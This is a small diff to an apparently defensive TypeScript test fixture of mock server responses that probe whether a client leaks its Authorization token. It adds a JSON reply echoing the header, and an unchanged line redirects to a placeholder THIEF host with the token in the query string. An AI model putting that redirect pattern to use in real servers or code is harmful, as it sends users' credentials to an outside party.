@@ -86,6 +86,10 @@ export const ANSWERS: Record<string, { says: Says; isMarked?: boolean }> = {
 		isMarked: true,
 		says: (_, { header }) => html(200, `Authorization: ${header}`),
 	},
+	'200, something else in JSON': {
+		isMarked: true,
+		says: (_, { header, bare }) => json(200, { said: `${MARK} ${header}`, authorization: bare }),
+	},
 	'a redirect with the token in it': {
 		says: (_, { bare }) => redirect(307, `https://${THIEF}/?t=${encodeURIComponent(bare)}`),
 	},
